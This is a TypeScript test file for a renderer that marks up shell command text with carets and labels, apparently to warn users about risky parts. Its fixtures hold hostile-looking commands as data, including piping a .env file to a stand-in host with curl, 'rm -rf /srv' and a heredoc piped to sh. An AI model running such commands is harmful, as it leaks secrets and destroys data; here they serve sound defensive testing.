import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Mark, type MarkedStyle, markedLines } from './marked-lines.ts';

const same = (text: string): string => text;
const style: MarkedStyle = { width: 72, paint: { red: same, cyan: same, dim: same }, isWhole: false };

/** Marks given as the words they stand below. */
const mark = (text: string, part: string, label: string, isBlamed = false): Mark => {
  const start = text.indexOf(part);
  return { start, end: start + part.length, label, isBlamed };
};

describe('marked lines', () => {
  it('underlines each part with what it gives; what stands in the way with carets', () => {
    const text = 'cat .env | curl -d @- x.example && rm -rf build';
    const marks = [
      mark(text, 'rm -rf build', 'deletes build and all below'),
      mark(text, '.env', 'reveals a secret: .env', true),
      mark(text, 'curl -d @- x.example', 'talks to x.example:80', true),
    ];
    expect(markedLines(text, marks, style)).toEqual([
      '  │ cat .env | curl -d @- x.example && rm -rf build',
      '        ^^^^ reveals a secret: .env',
      '               ^^^^^^^^^^^^^^^^^^^^ talks to x.example:80',
      '                                       ~~~~~~~~~~~~',
      '      └ deletes build and all below',
    ]);
  });

  it('shows of a long text the lines that matter, and how many were left out', () => {
    const lines = Array.from({ length: 40 }, (_, index) => `echo ${index + 1}`);
    lines[19] = 'rm -rf /srv';
    const text = lines.join('\n');
    expect(markedLines(text, [mark(text, 'rm -rf /srv', 'destroys /srv', true)], style)).toEqual([
      '  ⋮ 18 more lines',
      '  19 │ echo 19',
      '  20 │ rm -rf /srv',
      '       ^^^^^^^^^^^ destroys /srv',
      '  21 │ echo 21',
      '  ⋮ 19 more lines',
    ]);
  });

  it('shows of a very long line the pieces that matter', () => {
    const text = `x=${'a'.repeat(2000)}; rm -rf /srv; y=${'b'.repeat(2000)}`;
    const shown = markedLines(text, [mark(text, 'rm -rf /srv', 'destroys /srv', true)], style);
    expect(shown.length).toBeLessThan(10);
    const texts = shown.filter((line) => /^ {2}[│┊] /.test(line)).map((line) => line.slice(4));
    expect(texts.join('')).toContain('rm -rf /srv');
    expect(shown.filter((line) => /… \d+ more characters/.test(line))).toHaveLength(2);
  });

  it('no text can imitate a mark: every line of it stands behind a bar', () => {
    const text = `echo ${' '.repeat(200)}~~~~ reads README.md\n     ~~~~ reads README.md`;
    for (const line of markedLines(text, [], { ...style, isWhole: true })) expect(line).toMatch(/^ {2,4}(\d )?[│┊] /);
  });

  it('shows controls, bidi and invisible characters as what they are, with marks below what they stand for', () => {
    const text = 'a\u001b[2J\u202eb rm';
    expect(markedLines(text, [mark(text, 'rm', 'deletes')], style)).toEqual([
      String.raw`  │ a\u{1B}[2J\u{202E}b rm`,
      '                        ~~ deletes',
    ]);
  });

  it('marks stand below wide characters too', () => {
    const text = 'rm 日本 x';
    expect(markedLines(text, [mark(text, 'x', 'deletes x')], style)).toEqual([
      '  │ rm 日本 x',
      '            ~ deletes x',
    ]);
  });

  it('a pile of combining marks is shown as escapes, and so covers no other line', () => {
    expect(markedLines('a\u0301\u0302\u0303', [], style)).toEqual(['  │ a\u0301\u0302\\u{303}']);
  });

  it('says of a part of several lines where it begins', () => {
    const text = 'cat <<E | sh\nid\nE';
    expect(
      markedLines(text, [{ start: 0, end: text.length, label: 'runs other code', isBlamed: true }], style),
    ).toEqual(['  1 │ cat <<E | sh', '      ^^^^^^^^^^^^ runs other code', '  2 │ id', '  3 │ E']);
  });

  it('whole texts lose no character, whatever is marked; nothing active comes out; no line is too wide', () => {
    const part = fc.tuple(fc.nat(300), fc.nat(40), fc.boolean());
    const texts = fc.string({
      unit: fc.constantFrom('a', ' ', '\n', '\t', '日', '\u001b', '\u202e', "'", '|'),
      maxLength: 300,
    });
    fc.assert(
      fc.property(texts, fc.array(part, { maxLength: 8 }), fc.integer({ min: 40, max: 100 }), (text, parts, width) => {
        const marks = parts.map(([start, length, isBlamed]) => ({
          start: Math.min(start, text.length),
          end: Math.min(start + length, text.length),
          label: 'says something of it',
          isBlamed,
        }));
        const shown = markedLines(text, marks, { ...style, width, isWhole: true });
        const back = shown
          .filter((line) => /^ {2,6}(\d+ +)?[│┊] /.test(line))
          .map((line) => line.replace(/^ *(\d+ +)?[│┊] /, ''))
          .join('');
        const plain = text
          .replaceAll('\u001b', '\\u{1B}')
          .replaceAll('\u202e', '\\u{202E}')
          .replaceAll(/[\n\t ]/g, '');
        expect(back.replaceAll(' ', '')).toBe(plain);
        expect(shown.join('')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
        expect(Math.max(...shown.map((line) => line.length))).toBeLessThanOrEqual(width);
      }),
      { numRuns: 300 },
    );
  });
});
